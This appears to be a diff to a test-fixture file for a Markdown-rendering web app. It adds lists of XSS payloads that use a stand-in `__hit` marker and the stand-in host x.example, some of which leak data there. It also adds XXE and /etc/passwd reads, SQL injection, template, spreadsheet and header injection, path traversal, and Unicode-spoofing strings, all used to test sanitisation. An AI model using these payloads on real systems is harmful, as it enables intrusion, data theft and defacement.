@@ -1,4 +1,8 @@
-"""Texts that try to become more than text."""
+"""Texts that try to become more than text, and texts that only look odd; all of our own making.
+
+In a browser, `__hit` is what would run: a page that defines it learns of every attack that came through. The place
+x.example is where words, visits and forms would go.
+"""
 
 ATTACKS = [
     "<script>alert(1)</script>",
@@ -113,4 +117,258 @@ ATTACKS = [
     '*<img src=x onerror=alert(1)>*ไทย**"<script>"**',
     "\\<script>alert(1)\\</script>",
     "&#x3C;img src=x onerror=alert(1)&#x3E;",
+    # more of HTML: old elements, odd spellings, what a parser mends
+    "<img src=x onerror=__hit(1)>",
+    "<script>__hit(2)</script>",
+    "<svg/onload=__hit(3)>",
+    "<iframe srcdoc='<script>parent.__hit(4)</script>'></iframe>",
+    "<a href=javascript:__hit(5)>x</a>",
+    "<input onfocus=__hit(6) autofocus>",
+    "<details open ontoggle=__hit(7)>x",
+    "<style>@keyframes a{}</style><b style=animation-name:a onanimationstart=__hit(8)>x</b>",
+    "<video src=x onerror=__hit(9)></video>",
+    "<audio controls onloadstart=__hit(10) src=x></audio>",
+    "<object data='data:text/html,<script>__hit(11)</script>'></object>",
+    "<script src=data:,__hit(12)></script>",
+    "<script type=module>import('data:text/javascript,__hit(13)')</script>",
+    "<link rel=modulepreload href='data:text/javascript,__hit(14)'>",
+    "<link rel=prefetch href=//x.example/seen>",
+    "<meta http-equiv=refresh content='0;url=javascript:__hit(15)'>",
+    "<meta http-equiv=Content-Security-Policy content=\"script-src * 'unsafe-inline'\">",
+    "<meta name=referrer content=unsafe-url>",
+    "<base target=_top href=https://x.example/>",
+    "<form id=act action=//x.example><button form=act formaction=javascript:__hit(16)>x</button></form>",
+    "<button form=act formaction=//x.example>x</button>",
+    "<input type=image src=x onerror=__hit(17)>",
+    "<isindex action=javascript:__hit(18) type=submit>",
+    "<keygen autofocus onfocus=__hit(19)>",
+    "<frameset onload=__hit(20)><frame src=javascript:__hit(21)></frameset>",
+    "<applet code=x onerror=__hit(22)></applet>",
+    "<portal src=javascript:__hit(23)></portal>",
+    "<dialog open onclose=__hit(24)>x</dialog>",
+    "<div popover id=quick onbeforetoggle=__hit(25)>x</div><button popovertarget=quick>x</button>",
+    "<div contenteditable oninput=__hit(26) onpaste=__hit(26)>x</div>",
+    "<x-lomwong oncontentvisibilityautostatechange=__hit(27) style=content-visibility:auto>x</x-lomwong>",
+    "<b hx-on:click=__hit(28) hx-get=//x.example hx-trigger=load data-hx-get=//x.example>x</b>",
+    "<div data-suggest=//x.example data-find=//x.example data-htmx=//x.example/a.js>x</div>",
+    "<main id=main><p id=said><form id=act></form></p></main>",
+    "<a id=location name=location href=//x.example>x</a><form name=body><input name=firstChild></form>",
+    "<a ping=//x.example href=https://x.example>x</a>",
+    "<a href=https://x.example download=x.exe>x</a>",
+    "<img srcset='//x.example/a.png 1x' sizes=100vw loading=eager>",
+    "<picture><source srcset=//x.example/a.png><img src=//x.example/b.png></picture>",
+    "<img src=/accounts/logout/><img src=/care/held/>",
+    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg>"
+    "<a href=javascript:__hit(29)/></svg>#x'/></svg>",
+    "<svg><foreignObject><iframe src=javascript:__hit(30)></iframe></foreignObject></svg>",
+    "<svg><set attributeName=onmouseover to=__hit(31)></svg>",
+    "<svg><script href=data:,__hit(32)></script></svg>",
+    "<svg><desc><![CDATA[</desc><script>__hit(33)</script>]]></svg>",
+    "<svg><title><a title='</title><script>__hit(34)</script>'></svg>",
+    "<svg><discard onbegin=__hit(35)>",
+    "<math><maction actiontype=statusline xlink:href=javascript:__hit(36)>x</maction></math>",
+    "<math><annotation-xml encoding=text/html><script>__hit(37)</script></annotation-xml></math>",
+    "<math href=javascript:__hit(38)>x</math>",
+    "<table><tr><td></td></tr><img src=x onerror=__hit(39)></table>",
+    "<select><keygen><img src=x onerror=__hit(40)></select>",
+    "<noembed><img title='</noembed><img src=x onerror=__hit(41)>'>",
+    "<noframes><img title='</noframes><img src=x onerror=__hit(42)>'>",
+    "<style><!--</style><script>__hit(43)//--></script>",
+    "<script><!--<script></script>__hit(44)",
+    "<//script><img src=x onerror=__hit(45)>",
+    "<%00script>__hit(46)</script>",
+    "<script\n>__hit(47)</script\n>",
+    "<script/x>__hit(48)</script/y>",
+    "<img\x0csrc=x\x0conerror=__hit(49)>",
+    "<img \x0bsrc=x \x0bonerror=__hit(50)>",
+    "<\nimg src=x onerror=__hit(51)>",
+    "<img src=x onerror\n=\n__hit(52)>",
+    "<img src=x oNeRrOr=&#95;_hit(53)>",
+    "<img src='x'onerror='__hit(54)'>",
+    '<img src="x"/ onerror=__hit(55)/ >',
+    "<img src=`x`onerror=__hit(56)>",
+    "<IMG SRC=X ONERROR=window['__'+'hit'](57)>",
+    "<img src=x:x onerror=eval(atob('X19oaXQoNTgp'))>",
+    '<a href="javascript&#x3a;__hit(59)">x</a>',
+    '<a href="\x01javascript:__hit(60)">x</a>',
+    '<a href="java\u00adscript:__hit(61)">x</a>',
+    "<a href='javascript://x.example/%0a__hit(62)'>x</a>",
+    "<a href='jAvAsCrIpT&Tab;:__hit(63)'>x</a>",
+    "<a href='view-source:javascript:__hit(64)'>x</a>",
+    "<a href='about:blank#__hit(65)'>x</a>",
+    "<a href='\\\\x.example/'>x</a>",
+    "<a href='///x.example/'>x</a>",
+    '<p style="width:expression(__hit(66));-moz-binding:url(//x.example)">x</p>',
+    "<p style='background:url(//x.example/seen)'>x</p>",
+    "<p class='btn main' role=button aria-label=x tabindex=1 accesskey=x>x</p>",
+    "<style>input[value^=a]{background:url(//x.example/a)}</style>",
+    "<style>@font-face{font-family:x;src:url(//x.example/f)}</style>",
+    # out of an attribute, a script, a comment, JSON, a style
+    'x" onmouseover=__hit(67) autofocus onfocus=__hit(67) x="',
+    "x' onmouseover=__hit(68) autofocus onfocus=__hit(68) x='",
+    "x onmouseover=__hit(69)",
+    '" formaction=//x.example "',
+    '"><img src=x onerror=__hit(70)>',
+    "'><svg/onload=__hit(71)>",
+    "--><script>__hit(72)</script><!--",
+    "*/__hit(73)/*",
+    '";__hit(74);//',
+    "';__hit(75);//",
+    '\\";__hit(76);//',
+    "</script><script>__hit(77)</script>",
+    "</style><script>__hit(78)</script>",
+    "]]><script>__hit(79)</script>",
+    "</content></entry><entry><title>x</title></entry>",
+    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
+    "<!DOCTYPE x [<!ENTITY a 'aaaaaaaaaa'><!ENTITY b '&a;&a;&a;'>]>&b;",
+    "<?php echo 7*7 ?><?xml-stylesheet href='//x.example/a.xsl'?>",
+    "<x xmlns:xi='http://www.w3.org/2001/XInclude'><xi:include href='file:///etc/passwd'/></x>",
+    "\u2028__hit(80)\u2029",
+    "&lt;img src=x onerror=__hit(81)&gt;",
+    "&amp;lt;img src=x onerror=__hit(82)&amp;gt;",
+    "%3Cscript%3E__hit(83)%3C/script%3E",
+    "\\u003cscript\\u003e__hit(84)\\u003c/script\\u003e",
+    "\\x3cscript\\x3e__hit(85)\\x3c/script\\x3e",
+    # of our own Markdown: people, pictures, emphasis beside Thai
+    "[@ก](person:1)[@ก](person:0)[@ก](person:-1)[@ก](PERSON:1)[@ก](person:1#x)",
+    "[<img src=x onerror=__hit(86)>](person:1)",
+    '[@ก](person:1 "\\" onmouseover=__hit(87)")',
+    "![a](file:1)![a](file:0)![a](file:99999999999999999)![](file:1)",
+    '![\\" onerror=__hit(88) x=\\"](file:1)',
+    '![<script>__hit(89)</script>](file:1 "</figcaption><script>__hit(89)</script>")',
+    "![a](file:///etc/passwd)![a](/accounts/logout/)",
+    "[![[![[x](javascript:__hit(90))](file:1)](person:1)](file:1)](javascript:__hit(90))",
+    "[x][1]\n\n[1]: <javascript:__hit(91)> 'x'",
+    "[1]: //x.example\n\n[1] [1][] [x][1]",
+    "[x](javascript\u200b:__hit(93))",
+    "[x](java\nscript:__hit(94))",
+    "[x](%6A%61vascript:__hit(95))",
+    "[x](data:text/html,<script>__hit(96)</script>)",
+    "[x](about:blank) [x](intent://x#Intent;scheme=https;end) [x](ms-word:ofe|u|//x.example) [x](tel:1)",
+    "[x](//x.example) [x](\\\\x.example) [x](/\\x.example)",
+    '<https://x.example/"onclick=__hit(97)> <mailto:a@x.example?bcc=b@x.example>',
+    "https://x.example/?q=\"><script>__hit(98)</script>&x='onclick='",
+    "http://a@x.example:99999/ https://ก.x.example/ https://[::1]/ https://x.example\\@y.example/",
+    "ไทย**<script>__hit(99)</script>**ไทย*\"'*ไทย~~<img src=x onerror=__hit(99)>~~",
+    "#### <svg onload=__hit(100)>\n\n1. > - # <img src=x onerror=__hit(100)>",
+    '```" onclick="__hit(101)\nx\n```',
+    "~~~ <script>\n__hit(102)\n~~~",
+    "| <img src=x onerror=__hit(103)> |\n|:-:|\n| `|` [x](javascript:__hit(103)) ",
+    "\\[x](javascript:__hit(104)) \\`<script>__hit(104)</script>`",
+    "``` \n\x00<script>__hit(105)</script>\n```",
+    "*a <b*c> d*</b> **_x** _y_",
+    '@คนที่ไม่มี @<script>__hit(106)</script> @"onclick="__hit(106)',
 ]
+
+ODD = [
+    # an address that only looks alive: browsers take it for a place in the house
+    "[x](\u200bjavascript:__hit(92))",
+    # templates, formats, shells: what must not be filled in
+    "{{ 7*7 }} {{ request.user.password }} {% debug %} {% load x %} {# x #} {%include 'x'%}",
+    "{number} {url} {count} {} {0} {0.__class__} {{}} { } {who!r:>99999}",
+    "%s %d %n %(x)s %(who)s %(title)s %% %99999999s %c %*d",
+    "${7*7} #{7*7} <%= 7*7 %> [[7*7]] *{7*7} @{7*7} $x `x` $(x) |x; x & x",
+    "\\1 \\g<1> \\x41 \\u0e01 \\N{BELL} \\\\ \\0",
+    "__class__.__mro__ __proto__ constructor prototype toString hasOwnProperty",
+    # databases, search, spreadsheets, mail, paths
+    "' OR '1'='1' -- ",
+    "'; DROP TABLE posts_post; --",
+    "\" UNION SELECT password FROM people_person --",
+    "1; SELECT pg_sleep(9) -- ') or sleep(9)='",
+    "% _ %_% \\% \\_ *?[a-z]",
+    "title:* AND (((a OR \"b\" NOT ~c^9 NEAR/2 d) +e -f author: before: วง:",
+    "=1+1",
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "@SUM(1+1)",
+    "\t=HYPERLINK(\"//x.example\")",
+    "x\r\nBcc: all@x.example\r\nSubject: y\r\n\r\nz",
+    "x\nSet-Cookie: sessionid=1\nLocation: //x.example",
+    "x%0d%0aBcc: all@x.example",
+    "=?utf-8?b?QmNjOiBhQHguZXhhbXBsZQ0K?=",
+    ".\r\nQUIT\r\n",
+    "../../../../etc/passwd",
+    "..\\..\\..\\windows\\win.ini",
+    "....//....//etc/passwd%00.png",
+    "/etc/passwd",
+    "C:\\CON\\aux.txt",
+    "CON PRN AUX NUL COM1 LPT1",
+    ".", "..", "~", ".htaccess", "-rf", "--help", "a/b\\c:d*e?f\"g<h>i|j",
+    "file:///etc/passwd http://127.0.0.1:5432/ http://169.254.0.1/",
+    "{\"a\":1,\"__proto__\":{\"x\":1}}",
+    "callback({\"x\":1})",
+    ")]}',\n[1]",
+    "%00 %0a %2e%2e%2f %c0%ae %u0e01 %zz %",
+    # nothing, and what looks like nothing
+    "null", "NULL", "None", "undefined", "NaN", "Infinity", "nil", "true", "false", "0", "-0", "-1", "[]", "{}", "()",
+    "new", "put", "edit", "admin", "me", "mine", "start", "files",
+    "\u3164", "\u2800", "\u00ad", "\u034f", "\ufeff", "\u180e", "\u2060\u200b\u200c\u200d",
+    # numbers, days
+    "9" * 400, "1e309", "-9223372036854775809", "18446744073709551616", "0x7f", "1,000.00", "๑๒๓", "²", "Ⅷ", "½", "①",
+    "0000-00-00", "9999-99-99", "31/02/2569", "32/13/99999", "2026-11-23T25:61:61+99:99", "-1 ปี", "29/2/2568",
+    # control characters, ends of lines, non-characters
+    "a\x00b", "\x00", "\x01\x02\x03\x04\x05\x06\x07\x08\x0e\x0f\x1b[31mx\x1b[0m\x7f",
+    "a\x0bb\x0cc\x85d\u2028e\u2029f", "\ufffe\uffff\U0001fffe\U0010ffff", "\ue000\uf8ff\U000f0000",
+    "\ufffd\ufffc\ufff9x\ufffay\ufffb",
+    # direction, and what cannot be seen
+    "\u202eเงิน\u202cabc\u202d123", "\u2066x\u2067y\u2068z", "\u202a\u202b\u202c\u202d\u202e" * 20,
+    "ใบเสร็จ\u202efdp.exe",
+    "\u200bเ\u200bง\u200bิ\u200bน\u200b", "a\u200db\u200cc\u2060d\ufeffe", "\U000e0041\U000e0042\U000e007f",
+    "العربية עברית ไทย abc ܐ",
+    # marks on marks
+    "ป" + "\u0e48\u0e49\u0e4a\u0e4b\u0e47\u0e4c" * 10, "ก" + "\u0e34" * 60, "\u0e48\u0e49ขึ้นต้นด้วยวรรณยุกต์",
+    "น้ํา นํ้า น้ำ เเปลก เเเเ ฤๅ ๆๆๆๆ ฯลฯ",
+    "Z\u0351\u036b\u0343\u036a\u0302a\u030f\u0337l\u0321g\u0338o" * 10, "e" + "\u0301" * 300,
+    "\u0e33\u0e33\u0e33", "\u0e31\u0e31\u0e31 \u0e38\u0e39\u0e3a",
+    # pictures for words
+    "👩🏽‍🌾👨‍👩‍👧‍👦🏳️‍🌈🇹🇭🇹🇭🇹1️⃣", "\U0001f3fb\u200d\U0001f3ff\ufe0f\ufe0e", "👍" * 300, "\U0001f1f9" * 99,
+    "\u2764\ufe0f\u200d\U0001f525",
+    # letters that look alike, fold oddly, grow
+    "раураl аdmin ɑdmin ⓐⓓⓜⓘⓝ ａｄｍｉｎ 𝒶𝒹𝓂𝒾𝓃", "İıſßẞﬁﬀŉǰΐΰև", "ﷺ" * 60, "ᚠᛇᚻ ꧁꧂ 𝕋𝕙𝕒𝕚 ᴛʜᴀɪ",
+    "K\u212a Å\u212b µ\u03bc", "表ポ能力ソ弌",
+    "꙰⃢⃟҉ ௵﷽𒐫", "\u1160\u11ff\uffa0",
+    # shapes
+    "ก" * 5_000, "W" * 5_000, " " * 3_000 + "x", "\n" * 3_000 + "x", "ๆ " * 900, "a," * 500, "#" * 200, "#x" * 300,
+    "> " * 150 + "x", "- " * 150 + "x", "[" * 500 + "]" * 500, "(" * 500, "*" * 999, "`" * 999, "<b>" * 300,
+    "<" * 999,
+    "![" * 200 + "](file:1)" * 200, "[@" * 200 + "](person:1)" * 200, "**ก" * 300, "|" * 999, "\\" * 999,
+    "&" * 999, "://" * 300,
+]  # fmt: skip
+"""Words that only look odd: each is somebody's right to write, and none may break a page."""
+
+HUGE = ["a" * 100_000, "ก" * 100_000, "<" * 100_000, "\u0e49" * 100_000, "a " * 50_000, "https://x.example/" * 5_500]
+"""As long as a text may be."""
+
+GROWING = "ﷺİΐﬃΰ㌀ำ🙏ก"
+"""Letters of which one becomes several when they are folded, decomposed or encoded."""
+
+BROKEN = [
+    b"\xff\xfe",
+    b"\xc0\xaf",
+    b"\xed\xa0\x80",
+    b"\xed\xa0\xbd\xed\xb8\x80",
+    b"\xf4\x90\x80\x80",
+    b"\xe0\xb8",
+    b"\x80ab",
+    b"\xfc\xa1",
+]
+"""Octets that are no UTF-8: too long, halves of surrogate pairs, cut, Thai of an old code page."""
+
+
+def one_line(text: str) -> str:
+    return " ".join(text.split())
+
+
+def packed(limit: int, texts: list[str] | None = None) -> list[str]:
+    """All of them on as few lines as such a field takes, those that are longer cut; and lines full to the last letter.
+
+    NUL stands in lines of its own: a field that refuses it would refuse all that stands beside it.
+    """
+    lines = [""]
+    for text in texts or [*ATTACKS, *ODD]:
+        text = one_line(text.replace("\x00", ""))[:limit]
+        if len(lines[-1]) + 1 + len(text) > limit:
+            lines.append("")
+        lines[-1] = f"{lines[-1]} {text}".strip()
+    return [*(line for line in lines if line), *(letter * limit for letter in GROWING), "a\x00b", "\x00"]
